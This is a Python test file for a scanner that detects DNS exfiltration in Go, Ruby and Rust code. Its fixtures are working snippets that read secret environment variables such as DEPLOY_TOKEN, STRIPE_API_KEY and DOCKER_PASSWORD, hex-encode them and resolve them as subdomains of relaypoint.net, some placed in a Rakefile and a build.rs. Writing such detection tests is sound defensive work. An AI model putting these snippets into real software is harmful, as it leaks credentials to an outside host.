"""A secret-named environment variable read in a language read lightly (Go, Ruby, Rust …), by a
literal or through a list of names it iterates, is a token; a DNS name built from it is a tunnel."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_a_go_token_spelled_into_a_lookup_is_dns_exfiltration(tmp_path: Path) -> None:
    source = (
        "package main\n\n"
        'import ("encoding/hex"; "fmt"; "net"; "os")\n\n'
        "func main() {\n"
        '\ttok := os.Getenv("DEPLOY_TOKEN")\n'
        "\tenc := hex.EncodeToString([]byte(tok))\n"
        '\tnet.LookupHost(fmt.Sprintf("%s.probe.relaypoint.net", enc))\n'
        "}\n"
    )
    errors = scan_errors(tmp_path, {"tools/probe.go": source})
    assert ("DNS_EXFILTRATION", "tools/probe.go", 8) in errors


def test_a_ruby_loop_over_secret_names_resolved_one_by_one_is_dns_exfiltration(tmp_path: Path) -> None:
    source = (
        'require "resolv"\n'
        "NAMES = %w[STRIPE_API_KEY DB_PASSWORD]\n"
        "NAMES.each do |n|\n"
        '  v = ENV.fetch(n, "")\n'
        '  label = v.unpack1("H*")[0, 60]\n'
        '  Resolv.getaddress("#{label}.t.relaypoint.net") rescue nil\n'
        "end\n"
    )
    errors = scan_errors(tmp_path, {"Rakefile": source})
    assert {rule for rule, _, _ in errors} == {"DNS_EXFILTRATION"}


def test_a_rust_build_script_with_while_let_and_a_tuple_loop_is_followed(tmp_path: Path) -> None:
    source = (
        "use std::net::ToSocketAddrs;\n"
        'const VARS: [&str; 2] = ["SENTRY_AUTH_TOKEN", "DOCKER_PASSWORD"];\n'
        "fn main() {\n"
        "    for (n, key) in VARS.iter().enumerate() {\n"
        "        while let Ok(secret) = std::env::var(key) {\n"
        '            let host = format!("{}-{}.relaypoint.net:80", secret.len(), secret);\n'
        "            let _ = host.to_socket_addrs();\n"
        "            break;\n"
        "        }\n"
        "    }\n"
        "}\n"
    )
    errors = scan_errors(tmp_path, {"build.rs": source})
    assert {rule for rule, _, _ in errors} == {"DNS_EXFILTRATION"}


def test_ordinary_variables_resolved_and_tokens_sent_to_their_api_stay_quiet(tmp_path: Path) -> None:
    build = (
        "use std::net::ToSocketAddrs;\n"
        "fn main() {\n"
        '    let host = std::env::var("REGISTRY_HOST").unwrap_or("index.crates.io".into());\n'
        '    let _ = format!("{}:443", host).to_socket_addrs();\n'
        "}\n"
    )
    ruby = (
        'require "net/http"\n'
        'token = ENV["GITHUB_TOKEN"]\n'
        'Net::HTTP.post(URI("https://api.github.com/repos/o/r/issues"), "{}", "Authorization" => "Bearer #{token}")\n'
    )
    assert scan_errors(tmp_path, {"build.rs": build, "scripts/issue.rb": ruby}) == set()
